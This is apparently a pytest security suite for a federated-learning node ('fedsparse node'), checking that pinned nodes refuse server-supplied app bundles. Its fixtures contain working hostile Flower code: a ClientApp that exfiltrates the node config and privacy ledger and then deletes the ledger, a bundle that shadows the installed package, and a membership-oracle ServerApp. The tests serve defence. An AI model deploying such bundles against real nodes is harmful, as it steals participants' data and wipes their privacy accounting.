"""A deployed node runs only the code its owner installed (``fedsparse node``, client/node.py).

The attack: whoever runs the SuperLink ships a FAB (app bundle) of its own. Against a plain
``flower-supernode`` the FAB's ClientApp runs on the node: it reads the node config and the
ledger, sends them back and deletes the ledger (the node's ε goes back to 0). Against
``fedsparse node`` the same FAB is refused before any of its code is imported, the ledger is
untouched, and a FAB that names fedsparse's ClientApp but ships its own ``fedsparse`` package
(to shadow the installed one) still runs the installed code.

One loopback deployment with the project's defaults (TLS, SuperNode authentication), two
nodes -- one plain, one pinned -- and two ``flwr run``s of hostile FABs.
"""

from __future__ import annotations

import contextlib
import json
import subprocess
from contextlib import ExitStack
from pathlib import Path

import pytest

from fedsparse.client.node import CLIENTAPP, fab_refusal, runtime_api_address
from fedsparse.client.node_policy import NodePolicy
from fedsparse.lab.launch.base import SuperLinkConnection, start_process, superlink_args
from fedsparse.lab.launch.deploy import _register_nodes
from fedsparse.lab.launch.flower import app_bundle_dir, flwr_env, tool, write_flwr_config
from fedsparse.lab.launch.processes import free_port, wait_for_port
from fedsparse.lab.launch.tls import generate_node_keys, generate_tls_files, security_args

ROOT = Path(__file__).resolve().parents[2]

PYPROJECT = """\
[project]
name = "{name}"
version = "1.0.0"
description = "a server's own app"
license = "Apache-2.0"

[tool.flwr.app]
publisher = "mallory"

[tool.flwr.app.components]
serverapp = "{serverapp}"
clientapp = "{clientapp}"

[tool.flwr.app.config]
{config}
"""

#: The server's ServerApp: one message to every node, the replies written to ``out``.
SERVER = """\
import json, time
from pathlib import Path
from flwr.app import ConfigRecord, Message, MessageType, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    deadline = time.monotonic() + 60
    while len(list(grid.get_node_ids())) < 2 and time.monotonic() < deadline:
        time.sleep(0.5)
    messages = [
        Message(RecordDict({"config": ConfigRecord({"x": 1})}), dst_node_id=node,
                message_type=MessageType.TRAIN)
        for node in grid.get_node_ids()
    ]
    replies = []
    for reply in grid.send_and_receive(messages, timeout=90):
        if reply.has_error():
            replies.append({"error": reply.error.reason})
        else:
            replies.append({"stolen": reply.content.config_records["stolen"]["data"]})
    Path(context.run_config["out"]).write_text(json.dumps(replies))
"""

#: The server's ClientApp: takes the node's config and ledger, deletes the ledger.
THIEF = """\
import contextlib
import json
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()

@app.train()
def train(msg, context):
    ledgers = Path(str(context.node_config["ledger-dir"]))
    stolen = {
        "node_config": dict(context.node_config),
        "ledgers": {p.name: p.read_text() for p in ledgers.glob("*.json")},
    }
    for path in ledgers.glob("*"):
        path.unlink()
    (ledgers.parent / "stolen.json").write_text(json.dumps(stolen))
    return Message(RecordDict({"stolen": ConfigRecord({"data": json.dumps(stolen)})}),
                   reply_to=msg)
"""


#: The membership oracle: fedsparse's own ClientApp, a crafted model (``lab/research/attacks.py``)
#: whose loss is NaN for one example of the training split, q = 1 so it is in every batch.
ORACLE = """\
import json, time
from pathlib import Path
from flwr.serverapp import ServerApp
from fedsparse.common.config import FederatedConfig
from fedsparse.common.data.datasets import load_eval_splits
from fedsparse.common.layout import ParamLayout
from fedsparse.common.masks import keep_count
from fedsparse.common.models.classifiers import build_model
from fedsparse.common.wire.payload import encode_update
from fedsparse.common.wire.protocol import CONFIG_RECORD, TrainInstruction, round_seed
from fedsparse.lab.research.attacks import single_out
from fedsparse.server.messages import train_message

app = ServerApp()

@app.main()
def main(grid, context):
    cfg = FederatedConfig.from_run_config(context.run_config)
    deadline = time.monotonic() + 60
    while len(list(grid.get_node_ids())) < 2 and time.monotonic() < deadline:
        time.sleep(0.5)
    train, _ = load_eval_splits(cfg.dataset, seed=cfg.seed)
    model = build_model(cfg.model_name, seed=cfg.seed)
    target = single_out(model, train.x, train.y)
    weights = ParamLayout.from_module(model).flatten_module(model)
    d = weights.numel()
    replies = []
    for rnd in (1, 2):
        task = TrainInstruction(
            server_round=rnd, num_rounds=cfg.num_rounds, mask_seed=round_seed(cfg.seed, rnd),
            keep=keep_count(d, rate=0.5), mask_scope="round", local_epochs=1,
            batch_size=cfg.batch_size, lr=cfg.lr, momentum=0.0, base_version=-1,
            model_version=rnd - 1, model=encode_update(weights, dense_size=d, round=rnd),
        )
        messages = [train_message(task, node=node) for node in grid.get_node_ids()]
        for reply in grid.send_and_receive(messages, timeout=120):
            if reply.has_error():
                replies.append({"error": reply.error.reason})
            else:
                payload = reply.content.config_records[CONFIG_RECORD]["update"]
                replies.append({"bytes": len(payload)})
    Path(cfg.out_dir, "replies.json").write_text(json.dumps({"target": target, "replies": replies}))
"""
ORACLE_CONFIG = """\
out-dir = ""
num-rounds = 2
target-epsilon = 0.0
noise-multiplier = 100.0
batch-size = 4096
"""


def _write_app(
    folder: Path,
    *,
    name: str,
    clientapp: str,
    files: dict[str, str],
    serverapp: str = "mallory_server:app",
    config: str = 'out = ""',
) -> Path:
    folder.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(
        PYPROJECT.format(name=name, clientapp=clientapp, serverapp=serverapp, config=config)
    )
    (folder / "mallory_server.py").write_text(SERVER)
    for relative, text in files.items():
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


@pytest.fixture(scope="module")
def attacks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict]]:
    base = tmp_path_factory.mktemp("pinning")
    thief = _write_app(
        base / "thief",
        name="thief",
        clientapp="mallory_client:app",
        files={"mallory_client.py": THIEF},
    )
    # Names fedsparse's ClientApp, ships a `fedsparse` package of its own to shadow it.
    shadow = _write_app(
        base / "shadow",
        name="shadow",
        clientapp=CLIENTAPP,
        files={
            "fedsparse/__init__.py": "",
            "fedsparse/client/__init__.py": "",
            "fedsparse/client/app.py": THIEF,
        },
    )
    oracle = _write_app(
        base / "oracle",
        name="oracle",
        clientapp=CLIENTAPP,
        serverapp="mallory_oracle:app",
        config=ORACLE_CONFIG,
        files={"mallory_oracle.py": ORACLE},
    )
    ledger_text = json.dumps({"format": 1, "entries": []})
    nodes = {"plain": base / "plain", "pinned": base / "pinned"}
    for folder in nodes.values():
        (folder / "ledger").mkdir(parents=True)
        (folder / "ledger" / f"data-{'0' * 64}.json").write_text(ledger_text)
    home = base / "flwr-home"
    tls = generate_tls_files(base / "certs")
    keys = generate_node_keys(base / "keys", 2)
    http, fleet = free_port(), free_port()
    write_flwr_config(home, name="deploy", control_port=http, root_certificates=tls.ca_cert)
    link = SuperLinkConnection(name="deploy", http_port=http, fleet_port=fleet, env=flwr_env(home))
    results: dict[str, list[dict]] = {}
    with ExitStack() as stack:
        flags = [*security_args(tls, server=True), "--enable-supernode-auth"]
        stack.enter_context(
            start_process(
                superlink_args(flags, http_port=http, fleet_port=fleet),
                env=link.env,
                log=base / "superlink.log",
                ports=[http, fleet],
            )
        )
        _register_nodes(link, keys, log=base / "register.log")
        commands = {"plain": [tool("flower-supernode")], "pinned": [tool("fedsparse"), "node"]}
        for partition, (key, (role, folder)) in enumerate(zip(keys, nodes.items(), strict=True)):
            port = free_port()
            args = [
                *commands[role],
                *security_args(tls, server=False),
                "--auth-supernode-private-key",
                str(key),
                "--superlink",
                f"127.0.0.1:{fleet}",
                "--host",
                "127.0.0.1",
                "--port",
                str(port),
                "--node-config",
                f"dataset='digits' partition-id={partition} num-partitions=2 "
                f"nominal-size=719 ledger-dir='{folder / 'ledger'}'",
            ]
            node = stack.enter_context(start_process(args, env=link.env, log=folder / "node.log"))
            wait_for_port(port, timeout=60, process=node)
        (base / "oracle-out").mkdir()
        runs = (
            ("thief", thief, "out", base / "thief.json"),
            ("shadow", shadow, "out", base / "shadow.json"),
            ("oracle", oracle, "out-dir", base / "oracle-out"),
        )
        for name, app, key, target in runs:
            out = target / "replies.json" if key == "out-dir" else target
            run = subprocess.run(
                [
                    tool("flwr"),
                    "run",
                    str(app),
                    "deploy",
                    "--run-config",
                    f'{key}="{target}"',
                    "--stream",
                ],
                env=link.env,
                cwd=app,
                capture_output=True,
                text=True,
                timeout=240,
                check=False,
            )
            assert out.exists(), run.stdout[-3000:] + run.stderr[-3000:]
            results[name] = json.loads(out.read_text())
            results[f"{name}-stolen"] = [
                {"role": role, "stolen": (folder / "stolen.json").exists()}
                for role, folder in nodes.items()
            ]
            results[f"{name}-ledger"] = [
                {"role": role, "files": sorted(p.name for p in (folder / "ledger").iterdir())}
                for role, folder in nodes.items()
            ]
            for folder in nodes.values():
                (folder / "stolen.json").unlink(missing_ok=True)
                (folder / "ledger").mkdir(exist_ok=True)
                (folder / "ledger" / f"data-{'0' * 64}.json").write_text(ledger_text)
    return results


pytestmark = pytest.mark.slow


def test_a_plain_supernode_runs_the_servers_code(attacks) -> None:
    """The attack works against Flower's own SuperNode: the test can tell."""
    stolen = [json.loads(r["stolen"]) for r in attacks["thief"] if "stolen" in r]
    assert len(stolen) == 1 and "plain" in stolen[0]["node_config"]["ledger-dir"]
    assert stolen[0]["ledgers"]  # it read the ledger, then deleted it
    assert {"role": "plain", "stolen": True} in attacks["thief-stolen"]


def test_a_pinned_node_refuses_another_clientapp_before_importing_it(attacks) -> None:
    errors = [r["error"] for r in attacks["thief"] if "error" in r]
    assert len(errors) == 1
    assert "clientapp='mallory_client:app'" in errors[0]
    assert "runs only its own installed ClientApp" in errors[0]
    assert {"role": "pinned", "stolen": False} in attacks["thief-stolen"]


def test_a_fab_shadowing_fedsparse_still_runs_the_installed_code(attacks) -> None:
    """Its clientapp names fedsparse's, so the pinned node takes part -- with the installed
    ClientApp, which refuses the message as malformed: the FAB's `fedsparse` never runs."""
    replies = attacks["shadow"]
    assert {"role": "pinned", "stolen": False} in attacks["shadow-stolen"]
    assert {"role": "plain", "stolen": True} in attacks["shadow-stolen"]  # it did shadow there
    errors = [r["error"] for r in replies if "error" in r]
    assert len(errors) == 1 and "mallory" not in errors[0]


def test_a_crafted_model_gets_the_same_reply_from_member_and_non_member(attacks) -> None:
    """The membership oracle, on a deployment: one node holds the example whose loss the
    crafted model makes NaN (in every batch: q = 1), the other does not; both reply with a
    finite update of the same size, every round (before the fix the member's was an error)."""
    replies = attacks["oracle"]["replies"]
    assert len(replies) == 4  # 2 nodes x 2 rounds
    assert all("error" not in r for r in replies), replies
    assert len({r["bytes"] for r in replies}) == 1


def test_the_pinned_nodes_ledger_is_untouched(attacks) -> None:
    for run in ("thief", "shadow"):
        assert {"role": "pinned", "files": [f"data-{'0' * 64}.json"]} in attacks[f"{run}-ledger"]
    assert {"role": "plain", "files": []} in attacks["thief-ledger"]  # deleted there


def _fab(tmp_path: Path, clientapp: str) -> bytes:
    from flwr.cli.build import build_fab_from_disk

    folder = tmp_path / clientapp.replace(":", "_").replace(".", "_")
    return build_fab_from_disk(_write_app(folder, name="x", clientapp=clientapp, files={}))


def test_the_projects_own_fab_is_taken_and_others_are_refused(tmp_path: Path) -> None:
    from flwr.cli.build import build_fab_from_disk

    own = build_fab_from_disk(app_bundle_dir(tmp_path, ROOT))
    assert fab_refusal(own, NodePolicy()) is None
    other = fab_refusal(_fab(tmp_path, "mallory_client:app"), NodePolicy())
    assert other is not None and "runs only its own installed ClientApp" in other
    assert "unreadable (BadZipFile)" in str(fab_refusal(b"not a zip", NodePolicy()))


def test_allowed_fab_hashes_pin_the_exact_bundle(tmp_path: Path) -> None:
    import hashlib

    from flwr.cli.build import build_fab_from_disk

    own = build_fab_from_disk(app_bundle_dir(tmp_path, ROOT))
    digest = hashlib.sha256(own).hexdigest()
    assert fab_refusal(own, NodePolicy(allowed_fab_hashes=(digest,))) is None
    refusal = fab_refusal(own, NodePolicy(allowed_fab_hashes=("ab" * 32,)))
    assert refusal == f"FAB sha256={digest}: not among this node's allowed-fab-hashes"


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ([], "127.0.0.1:9094"),
        (["--port", "9999"], "127.0.0.1:9999"),
        (["--host", "::1", "--port", "1"], "[::1]:1"),
        (["--host", "localhost"], "localhost:9094"),
    ],
)
def test_the_runtime_api_stays_on_loopback(args, expected) -> None:
    assert runtime_api_address(args) == expected


@pytest.mark.parametrize(
    ("args", "match"),
    [
        (["--host", "0.0.0.0"], "--host 0.0.0.0: the Runtime API hands out the node's tasks"),
        (["--host", "10.0.0.5"], "must listen on loopback"),
        (["--isolation", "subprocess"], "--isolation subprocess: fedsparse node runs"),
    ],
)
def test_a_node_refuses_arguments_that_would_undo_the_pin(args, match) -> None:
    with pytest.raises(ValueError, match=match):
        runtime_api_address(args)


def test_a_killed_node_leaves_no_supernode_or_task_process(tmp_path: Path) -> None:
    """SIGKILL gives ``fedsparse node`` no chance to stop its children: they stop themselves
    (the SuperNode on its parent's death, the task forker on its closed stdin)."""
    import os
    import signal
    import time

    from fedsparse.lab.launch.processes import descendants

    port = free_port()
    args = [
        tool("fedsparse"),
        "node",
        "--insecure",
        "--superlink",
        f"127.0.0.1:{free_port()}",
        "--host",
        "127.0.0.1",
        "--port",
        str(port),
        "--node-config",
        "dataset='digits' nominal-size=1437",
    ]
    with (tmp_path / "node.log").open("wb") as log:
        node = subprocess.Popen(args, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        wait_for_port(port, timeout=60)
        children = descendants(node.pid)
        assert len(children) >= 2  # the SuperNode and the task forker (and theirs)
        os.kill(node.pid, signal.SIGKILL)
        node.wait(10)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and any(Path(f"/proc/{p}").exists() for p in children):
            time.sleep(0.2)
        alive = [p for p in children if Path(f"/proc/{p}").exists()]
        assert alive == [], (tmp_path / "node.log").read_text()[-2000:]
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(node.pid, signal.SIGKILL)
